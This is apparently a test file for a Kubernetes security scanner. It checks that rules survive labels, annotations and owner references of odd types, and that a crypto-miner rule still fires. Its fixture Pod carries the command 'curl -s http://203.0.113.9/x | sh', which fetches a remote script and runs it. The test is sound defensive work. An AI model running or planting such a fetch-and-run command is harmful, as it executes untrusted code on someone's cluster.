import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { runRules } from '../../src/core/engine.js';
import { annotationsOf, labelsOf, ownerReferencesOf } from '../../src/core/object.js';
import type { K8sObject, ScannedObject } from '../../src/core/types.js';
import { ALL_RULES } from '../../src/rules/index.js';

/**
 * A manifest file is not validated by an API server: `labels: 5` parses, and so do a list of
 * owner references holding `null`. Every value a YAML document can put in these fields.
 */
const ODD_VALUES: readonly unknown[] = [5, 'text', true, null, [], ['a', 1], { app: 5, on: true, list: [1], map: { a: 1 }, none: null }];

function objectsWith(value: unknown): K8sObject[] {
  const metadata = { name: 'odd', namespace: 'kubeflow-user', labels: value, annotations: value, ownerReferences: value };
  const podSpec = { automountServiceAccountToken: true, containers: [{ name: 'main', image: 'tensorflow/tensorflow:latest', command: ['sh', '-c', 'curl -s http://203.0.113.9/x | sh'] }] };
  return [
    { apiVersion: 'v1', kind: 'Pod', metadata, spec: podSpec },
    { apiVersion: 'apps/v1', kind: 'Deployment', metadata, spec: { selector: { matchLabels: value }, template: { metadata: { labels: value, annotations: value }, spec: podSpec } } },
    { apiVersion: 'v1', kind: 'Service', metadata, spec: { type: 'LoadBalancer', selector: value, ports: [{ port: 80 }] } },
    { apiVersion: 'v1', kind: 'Namespace', metadata: { ...metadata, name: 'kubeflow-user' } },
    { apiVersion: 'argoproj.io/v1alpha1', kind: 'Workflow', metadata, spec: { templates: [{ name: 't', metadata: { labels: value }, container: podSpec.containers[0] }] } },
  ];
}

describe('metadata of odd types', () => {
  for (const value of ODD_VALUES) {
    test(`crashes no rule: labels, annotations and ownerReferences = ${JSON.stringify(value)}`, () => {
      const scanned: ScannedObject[] = objectsWith(value).map((object) => ({ object, origin: { kind: 'cluster', context: 'test' } }));
      const result = runRules(scanned, { rules: ALL_RULES });
      assert.deepEqual(result.ruleErrors.map((e) => `${e.ruleId}: ${e.message}`), []);
      // The miner is still found whatever the metadata holds.
      assert.ok(result.findings.some((f) => f.ruleId === 'crypto-miner-workload' && f.resource.kind === 'Pod'));
    });
  }

  test('labelsOf and annotationsOf give a string map: no map is empty, scalars are their text, lists and maps are dropped', () => {
    const of = (value: unknown): K8sObject => ({ apiVersion: 'v1', kind: 'Pod', metadata: { labels: value, annotations: value } });
    for (const value of [5, 'text', true, null, ['a']]) {
      assert.deepEqual(labelsOf(of(value)), {});
      assert.deepEqual(annotationsOf(of(value)), {});
    }
    assert.deepEqual(labelsOf(of({ app: 'x', n: 5, on: true, list: [1], map: {}, none: null })), { app: 'x', n: '5', on: 'true' });
    const plain = { app: 'x' };
    assert.equal(labelsOf(of(plain)), plain, 'an all-string map is not copied');
  });

  test('ownerReferencesOf keeps map entries and the fields of the right type', () => {
    const of = (value: unknown): K8sObject => ({ apiVersion: 'v1', kind: 'Pod', metadata: { ownerReferences: value } });
    assert.deepEqual(ownerReferencesOf(of(5)), []);
    assert.deepEqual(ownerReferencesOf(of({ kind: 'Job' })), []);
    assert.deepEqual(ownerReferencesOf(of([null, 5, { kind: 7, name: 'n', controller: 'yes' }, { kind: 'Job', name: 'j', controller: true }])), [{ name: 'n' }, { kind: 'Job', name: 'j', controller: true }]);
  });
});
